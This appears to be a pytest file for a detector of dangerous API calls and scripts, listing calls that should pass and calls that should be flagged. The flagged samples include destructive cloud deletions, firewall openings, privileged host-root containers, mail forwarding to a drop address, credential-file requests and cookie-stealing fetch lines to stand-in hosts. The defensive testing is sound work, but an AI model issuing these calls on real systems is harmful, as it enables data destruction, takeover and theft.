"""What stands together in a call or a program: each rule finds its example, half of it is nothing."""

import pytest

from headgate.configuration.resources import resource_path
from headgate.configuration.yaml_document import Section, read_document
from headgate.detectors import dangerous_calls as dangerous_calls_module
from headgate.detectors.assess import EmbeddedModel, assess, kinds_of
from headgate.detectors.dangerous_calls import dangerous_calls, find_dangerous_calls
from headgate.detectors.document import SEPARATOR
from headgate.detectors.limits import Budget, Limits
from headgate.kernel.canonical_json import JsonValue

_THRESHOLD = 0.6
_RULES = read_document(resource_path("detectors", "dangerous_calls.yaml")).sections("rules")


@pytest.mark.parametrize("rule", _RULES, ids=[f"{at}-{one.text('kind')}" for at, one in enumerate(_RULES)])
def test_each_rule_finds_its_example(rule: Section) -> None:
    found = assess(EmbeddedModel.COMMANDS, rule.members["example"])

    assert rule.text("kind") in found.issues
    assert found.risk_score >= _THRESHOLD


@pytest.mark.parametrize(
    "value",
    [
        {"method": "DELETE", "path": "/api/v1/namespaces/preview-812"},
        {"method": "DELETE", "path": "/repos/northwind/shop/git/refs/heads/fix-totals"},
        {"method": "GET", "path": "/api/v1/namespaces/payments"},
        {"Action": "DeleteDBInstance", "SkipFinalSnapshot": "true", "DBInstanceIdentifier": "orders-test-3"},
        {"method": "POST", "bindings": [{"role": "roles/run.invoker", "members": ["allUsers"]},
                                        {"role": "roles/owner", "members": ["user:dana@northwind.example"]}]},
        {"kind": "ClusterRoleBinding", "roleRef": {"name": "view"}, "subjects": [{"name": "system:authenticated"}]},
        {"policy": 'path "secret/data/shop/*" {\n capabilities = ["read", "delete"]\n}'},
        {"method": "PUT", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject"}]},
        {"html": "<button onclick=\"navigator.clipboard.writeText('0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed')\">"},
        {"script": "fetch('https://a.example', {headers: {A: 'Basic ' + btoa(u.value + ':' + password.value)}})"},
        {"script": "navigator.sendBeacon('https://s.example', JSON.stringify({page: '/checkout', plan: s.value}))"},
        {"code": "for p in glob('*.csv'):\n open(p + '.enc', 'wb').write(Fernet(key).encrypt(open(p, 'rb').read()))"},
        {"method": "PATCH", "settlement_id": "3f9a1c2be77d4410a0c5e8d1f6b29a77", "threshold": "12"},
        {"method": "PUT", "wallet_service": "https://w.example", "text": "Pay by card or by bank transfer."},
        {"method": "PATCH", "shipping_address": "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"[:20]},
        {"method": "POST", "path": "/api/v1/data-decoder/", "data": "0x0d582f13" + "0" * 128},
    ],
)  # fmt: skip
def test_ordinary_calls_pass(value: JsonValue) -> None:
    assert assess(EmbeddedModel.COMMANDS, value).risk_score < _THRESHOLD


@pytest.mark.parametrize(
    "value",
    [
        {"method": "POST", "path": "/v1/projects/p/deployments", "operation": "destroy", "force": True},
        {"method": "POST", "path": "/api/stacks/northwind/shop/prod/deployments", "operation": "destroy"},
        {
            "method": "POST",
            "path": "/v1/firewalls/7/actions/set_rules",
            "rules": [{"direction": "in", "protocol": "tcp", "port": "any", "source_ips": ["0.0.0.0/0", "::/0"]}],
        },
        {
            "method": "POST",
            "path": "/v2.0/security-group-rules",
            "security_group_rule": {
                "direction": "ingress",
                "protocol": "tcp",
                "port_range_min": "22",
                "remote_ip_prefix": "0.0.0.0/0",
            },
        },
        {
            "method": "PATCH",
            "path": "/compute/v1/projects/x/global/firewalls/allow-db",
            "sourceRanges": ["0.0.0.0/0"],
            "allowed": [{"IPProtocol": "tcp", "ports": ["5432"]}],
        },
        {
            "method": "POST",
            "path": "/mcp",
            "name": "delete-many",
            "arguments": {"database": "shop", "collection": "orders", "filter": {}},
        },
        {"method": "DELETE", "path": "/rest/v1/patients", "query": {"id": ["gt.0"]}},
        {"method": "POST", "path": "/vectors/delete", "deleteAll": True, "namespace": "support"},
        {"method": "POST", "path": "/solr/cases/update", "delete": {"query": "*:*"}},
        {"method": "POST", "path": "/api/v1/admin/tsdb/delete_series", "query": {"match[]": ['{__name__=~".+"}']}},
        {"method": "POST", "path": "/JSSResource/computercommands/command/EraseDevice", "x": "y"},
        {
            "method": "POST",
            "path": "/admin/directory/v1/customer/my_customer/devices/mobile/a/action",
            "action": "admin_remote_wipe",
        },
        {
            "method": "POST",
            "path": "/api/v4/projects/77/deploy_keys",
            "title": "ci",
            "key": "ssh-rsa AAAAB3Nza",
            "can_push": True,
        },
        {"method": "PUT", "path": "/repos/a/b/collaborators/kestrel-77", "permission": "admin"},
        {"method": "PUT", "path": "/api/v4/projects/77", "visibility": "public"},
        {
            "method": "PUT",
            "path": "/containers/create",
            "Cmd": ["sh"],
            "HostConfig": {"Binds": ["/:/host"], "Privileged": True},
        },
        {
            "method": "POST",
            "path": "/x",
            "manifest": "kind: Pod\nspec:\n  containers:\n  - securityContext:\n      privileged: true\n"
            "  volumes:\n  - name: r\n    hostPath:\n      path: /\n",
        },
        {"method": "DELETE", "path": "/v2/projects/p/sinks/audit-to-bq"},
        {"method": "DELETE", "path": "/subscriptions/a/resourceGroups/rg/providers/Microsoft.Authorization/locks/keep"},
        {
            "Cmdlet": "Set-Mailbox",
            "CmdletName": "Set-Mailbox",
            "Parameters": {"Identity": "cfo", "ForwardingSmtpAddress": "smtp:x@drop.example"},
        },
        {"method": "POST", "path": "/esim/transfer", "msisdn": "447700900123", "eid": "8904", "skip_pin_check": True},
        {
            "script": 'require ["fileinto","copy"]; if header :contains "subject" "faktura" '
            '{ redirect :copy "a@b.example"; fileinto "Trash"; }',
        },
        {
            "method": "DELETE",
            "path": "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/gatekeeper",
        },
        {"method": "DELETE", "path": "/apis/networking.k8s.io/v1/namespaces/pay/networkpolicies/deny-all"},
        {"method": "DELETE", "path": "/apis/apps/v1/namespaces/pay/statefulsets"},
        {"method": "PUT", "path": "/v1/sys/generate-root/attempt"},
        {"method": "POST", "path": "/repos/northwind/ledger/transfer", "new_owner": "kestrel-77"},
        {
            "method": "PUT",
            "path": "/repos/northwind/ledger/branches/main/protection",
            "allow_force_pushes": True,
            "enforce_admins": False,
        },
        {
            "method": "PUT",
            "path": "/",
            "query": {"versioning": [""]},
            "body": "<VersioningConfiguration><Status>Suspended</Status></VersioningConfiguration>",
        },
        {"Action": "DeleteHostedZone", "Id": "Z1"},
        {"x-amz-target": "Logs_20140328.DeleteLogGroup", "logGroupName": "/aws/cloudtrail/org"},
        {
            "method": "PATCH",
            "path": "/client/v4/zones/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/settings/security_level",
            "value": "essentially_off",
        },
        {
            "method": "PUT",
            "path": "/v1/domains/northwind.example/nameservers",
            "nameservers": ["ns1.drop-dns.example", "ns2.drop-dns.example"],
        },
        {
            "method": "PATCH",
            "path": "/client/v4/zones/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/dns_records/x",
            "type": "MX",
            "name": "northwind.example",
            "content": "mx1.relay-guard.example",
            "host": "api.cloudflare.com",
        },
        {
            "method": "POST",
            "path": "/2013-04-01/hostedzone/Z1/rrset",
            "body": "<Change><Type>MX</Type><Record><Value>1 mx.a-guard.example</Value></Record></Change>",
        },
        {"script": "delete [SELECT Id FROM Account];"},
        {"method": "POST", "path": "/wp-json/wp/v2/users", "username": "svc", "roles": ["administrator"]},
        {
            "method": "PUT",
            "path": "/scans/a.dcm",
            "headers": {
                "x-amz-copy-source": "/scans/a.dcm",
                "x-amz-server-side-encryption-customer-algorithm": "AES256",
            },
        },
        {"method": "GET", "path": "/actuator/heapdump"},
        {"method": "GET", "path": "/.git/config"},
        {"method": "GET", "path": "/.aws/credentials"},
        {"method": "GET", "path": "/backup/id_rsa"},
        {"method": "GET", "path": "/wp-config.php.bak"},
    ],
)
def test_the_same_is_found_at_other_vendors(value: JsonValue) -> None:
    assert assess(EmbeddedModel.COMMANDS, value).risk_score >= _THRESHOLD


@pytest.mark.parametrize(
    "value",
    [
        {
            "method": "POST",
            "path": "/api/v2/runs",
            "data": {"attributes": {"is-destroy": False, "auto-apply": True, "message": "Deploy"}},
        },
        {
            "method": "POST",
            "path": "/api/v2/runs",
            "data": {"attributes": {"is-destroy": True, "auto-apply": True, "message": "tear down preview pr-214"}},
        },
        {
            "method": "POST",
            "path": "/compute/v1/projects/x/global/firewalls",
            "direction": "INGRESS",
            "sourceRanges": ["0.0.0.0/0"],
            "allowed": [{"IPProtocol": "tcp", "ports": ["443", "80"]}],
        },
        {
            "method": "POST",
            "path": "/v2/firewalls",
            "inbound_rules": [{"protocol": "tcp", "ports": "443", "sources": {"addresses": ["0.0.0.0/0"]}}],
            "outbound_rules": [{"protocol": "tcp", "ports": "all", "destinations": {"addresses": ["0.0.0.0/0"]}}],
        },
        {
            "method": "PUT",
            "path": "/x/securityRules/a",
            "properties": {
                "access": "Deny",
                "direction": "Inbound",
                "sourceAddressPrefix": "*",
                "destinationPortRange": "3389",
            },
        },
        {
            "method": "POST",
            "path": "/app/data-a/endpoint/data/v1/action/deleteMany",
            "database": "shop",
            "collection": "carts",
            "filter": {"expiresAt": {"$lt": "2026-01-01"}},
        },
        {
            "method": "POST",
            "path": "/app/data-a/endpoint/data/v1/action/deleteMany",
            "database": "shop_test",
            "collection": "carts",
            "filter": {},
        },
        {"method": "DELETE", "path": "/rest/v1/carts", "query": {"id": ["eq.77"]}},
        {"method": "POST", "path": "/vectors/delete", "ids": ["a", "b"], "deleteAll": False},
        {"method": "POST", "path": "/solr/cases/update", "delete": {"query": "id:77"}},
        {"method": "GET", "path": "/solr/cases/select", "query": {"q": ["*:*"]}},
        {"method": "POST", "path": "/repos/a/b/keys", "key": "ssh-ed25519 AAAA", "read_only": True},
        {"method": "PUT", "path": "/repos/a/b/collaborators/dana", "permission": "push"},
        {"method": "PATCH", "path": "/repos/a/b", "private": True, "has_wiki": False},
        {"method": "PATCH", "path": "/repos/a/b", "description": "x", "has_wiki": False},
        {
            "method": "POST",
            "path": "/apis/apps/v1/daemonsets",
            "kind": "DaemonSet",
            "spec": {
                "hostPID": True,
                "containers": [{"image": "prom/node-exporter:v1.8.0", "volumeMounts": [{"readOnly": True}]}],
                "volumes": [{"hostPath": {"path": "/"}}],
            },
        },
        {
            "method": "POST",
            "path": "/apis/apps/v1/deployments",
            "kind": "Deployment",
            "spec": {
                "containers": [{"securityContext": {"privileged": False}}],
                "volumes": [{"hostPath": {"path": "/var/log"}}],
            },
        },
        {"method": "PUT", "path": "/gmail/v1/users/me/settings/autoForwarding", "enabled": False},
        {"method": "GET", "path": "/esim/profiles", "iccid": "8944", "notify": False},
        {"script": 'if header :contains "subject" "x" { fileinto "Lists"; }'},
        {"method": "DELETE", "path": "/api/v1/namespaces/shop/pods/shop-7d9"},
        {"method": "DELETE", "path": "/apis/apps/v1/namespaces/shop/deployments/cart"},
        {"method": "DELETE", "path": "/apis/networking.k8s.io/v1/namespaces/dev/networkpolicies/deny"},
        {
            "method": "PUT",
            "path": "/repos/a/b/branches/main/protection",
            "allow_force_pushes": False,
            "enforce_admins": True,
        },
        {"method": "POST", "path": "/wp-json/wp/v2/users", "username": "dana", "roles": ["editor"]},
        {
            "method": "PATCH",
            "path": "/client/v4/zones/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/settings/development_mode",
            "value": "off",
        },
        {
            "method": "PATCH",
            "path": "/client/v4/zones/a/dns_records/b",
            "type": "MX",
            "name": "northwind.example",
            "content": "aspmx.l.google.com",
        },
        {
            "method": "POST",
            "path": "/client/v4/zones/a/dns_records",
            "type": "A",
            "name": "northwind.example",
            "content": "203.0.113.7",
        },
        {"method": "GET", "path": "/client/v4/zones/a/dns_records", "type": "MX"},
        {
            "method": "PUT",
            "path": "/v1/domains/northwind.example/nameservers",
            "nameservers": ["ada.ns.cloudflare.com", "bob.ns.cloudflare.com"],
        },
        {
            "method": "PUT",
            "path": "/",
            "body": "<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>",
        },
        {"method": "PUT", "path": "/a.bin", "headers": {"x-amz-server-side-encryption-customer-algorithm": "AES256"}},
        {"x-amz-target": "Logs_20140328.DeleteLogGroup", "logGroupName": "/aws/lambda/shop-dev-resize"},
        {"anonymousBody": "delete [SELECT Id FROM Account WHERE CreatedDate < LAST_N_YEARS:7];"},
        {"method": "GET", "path": "/northwind/shop.git/info/refs"},
        {"method": "GET", "path": "/actuator/health"},
        {"method": "GET", "path": "/docs/sql/backup.html"},
    ],
)
def test_ordinary_calls_beside_them_pass(value: JsonValue) -> None:
    assert assess(EmbeddedModel.COMMANDS, value).risk_score < _THRESHOLD


def test_texts_of_a_call_are_not_read_as_one_program() -> None:
    parts = ["GmailApp.search('invoice')[0].forward('dana@northwind.example')", "old.moveToTrash()"]

    assert "mail_forwarded" not in assess(EmbeddedModel.COMMANDS, parts).issues
    assert "mail_forwarded" in assess(EmbeddedModel.COMMANDS, ";".join(parts)).issues


@pytest.mark.parametrize("between", ["x, " * 250, "fetch(y), " * 80])
def test_words_of_a_long_line_that_are_far_from_each_other_are_no_program(between: str) -> None:
    sends = "fetch('https://pick.example/?c='"

    assert "malicious_script" not in assess(EmbeddedModel.COMMANDS, f"{sends} {between} document.cookie").issues
    assert "malicious_script" in assess(EmbeddedModel.COMMANDS, f"{sends} {between} {sends}+document.cookie").issues


def test_nearer_words_count_between_far_ones() -> None:
    code = f"gpg -e x; glob; os.remove(); send {'x ' * 90} a ransom {'x ' * 90} btc"

    assert "malicious_script" in assess(EmbeddedModel.COMMANDS, code).issues
    assert "malicious_script" not in assess(EmbeddedModel.COMMANDS, code.replace("ransom", "sum")).issues


def test_the_kinds_may_be_chosen() -> None:
    assert {rule.kind for rule in dangerous_calls().rules} <= kinds_of(EmbeddedModel.COMMANDS)


@pytest.mark.parametrize(
    "word", [b"clipboard ", b"cluster-admin\n\0\n", b"btoa('", b'capabilities path "*" {', b"keyup//a/fetch('//b"]
)
def test_hostile_text_ends_in_time(word: bytes) -> None:
    budget = Budget(Limits(seconds_max=5))
    found = list(find_dangerous_calls(word * 8000, budget))

    assert len(found) < 10_000
    assert not any(gap.reason.value == "time" for gap in budget.gaps.values())


def test_a_text_of_nothing_but_words_is_looked_for_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """Looked for at each word, a megabyte of them would take minutes."""
    asked: list[int] = []
    text_at = dangerous_calls_module.text_at

    def counted(buffer: bytes, at: int) -> tuple[int, int]:
        asked.append(at)
        return text_at(buffer, at)

    monkeypatch.setattr(dangerous_calls_module, "text_at", counted)
    list(find_dangerous_calls(SEPARATOR.join([b"x.get( " * 2_000] * 3), Budget(Limits(seconds_max=60))))

    assert len(asked) <= 4
